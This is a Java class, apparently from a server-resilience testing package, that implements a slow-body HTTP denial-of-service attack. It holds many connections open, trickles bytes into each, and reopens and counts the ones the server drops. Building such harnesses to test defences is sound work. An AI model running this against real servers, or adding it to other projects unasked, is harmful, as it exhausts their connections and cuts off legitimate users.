package io.kaidian.attacks;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.function.IntFunction;

/**
 * Many requests from one address whose bodies never end: a few bytes now and then. An answer does not stop them, and those
 * that are given up come again.
 */
public final class SlowRequestBodies implements AutoCloseable {

    private static final byte[] DROP = "aaaaaaaaaa".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] CHUNK = "a\r\naaaaaaaaaa\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int DROPS_A_SECOND = 10;

    private final String from;
    private final int port;
    private final IntFunction<String> head;
    private final List<RawHttpRequest> open = new ArrayList<>();
    private final ScheduledExecutorService pump = Executors.newSingleThreadScheduledExecutor();
    private final Map<String, Integer> givenUp = new HashMap<>();

    private SlowRequestBodies(String from, int port, IntFunction<String> head) {
        this.from = from;
        this.port = port;
        this.head = head;
    }

    /** Opens that many and goes on with 100 bytes a second each. */
    public static SlowRequestBodies open(String from, int port, int many, IntFunction<String> head) throws IOException {
        var trickle = new SlowRequestBodies(from, port, head);
        for (int i = 0; i < many; i++) {
            trickle.open.add(new RawHttpRequest(from, port, head.apply(i)));
        }
        trickle.pump.scheduleWithFixedDelay(trickle::drip, 0, 1000 / DROPS_A_SECOND, TimeUnit.MILLISECONDS);
        return trickle;
    }

    private synchronized void drip() {
        for (int i = 0; i < open.size(); i++) {
            try {
                var drop = head.apply(i).contains("chunked") ? CHUNK : DROP;
                if (open.get(i).isClosed() || !open.get(i).send(drop)) {
                    givenUp.merge(head.apply(i), 1, Integer::sum);
                    open.get(i).close();
                    open.set(i, new RawHttpRequest(from, port, head.apply(i)));
                }
            } catch (IOException full) {
                // The next time, then.
            }
        }
    }

    /** How many with this head were given up so far. */
    public synchronized int givenUp(String head) {
        return givenUp.getOrDefault(head, 0);
    }

    @Override
    public void close() throws IOException, InterruptedException {
        pump.shutdownNow();
        pump.awaitTermination(10, TimeUnit.SECONDS);
        for (var one : open) {
            one.close();
        }
    }
}
